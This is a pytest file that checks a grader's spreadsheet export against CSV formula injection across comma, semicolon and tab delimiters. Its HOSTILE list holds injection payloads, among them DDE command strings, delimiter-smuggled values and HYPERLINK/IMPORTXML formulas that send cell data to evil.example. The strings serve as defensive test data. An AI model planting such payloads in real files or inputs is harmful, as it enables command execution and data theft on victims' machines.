"""No cell of any table we write begins what a spreadsheet would run, however it splits the line."""

from __future__ import annotations

import csv
import io

import pytest

from grader import spreadsheet

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1)",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "kim;=cmd|' /C calc'!A0",
    "kim\t=cmd|' /C calc'!A0",
    'kim",=1+1,"',
    'kim";=1+1;"',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
]
STARTS = tuple("=+-@\t\r\n＝＋－＠")


def cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_starts_a_formula(hostile, delimiter):
    text = spreadsheet.table([("student", "note"), (hostile, 3.5), ("x", hostile)]).removeprefix("\ufeff")
    plain = io.StringIO()
    csv.writer(plain).writerows([(hostile, 3.5), ("x", hostile)])
    if delimiter == "," and not hostile.startswith("kim"):
        assert any(cell.startswith(STARTS) for cell in cells(plain.getvalue(), ",")), "the control"
    assert not [cell for cell in cells(text, delimiter) if cell.strip(" \"'") and cell.startswith(STARTS)]


@pytest.mark.parametrize(
    "value", [3, -1.5, "-0.25", "+3", "1e-5", "가나다", "a-b", "a = b", "r1: PASS; r2", ""]
)
def test_numbers_and_usual_words_stay_as_they_are(value):
    assert spreadsheet.defused(value) == value


def test_an_empty_cell_is_empty():
    assert spreadsheet.table([(None, 1)]) == "\ufeff,1\n"
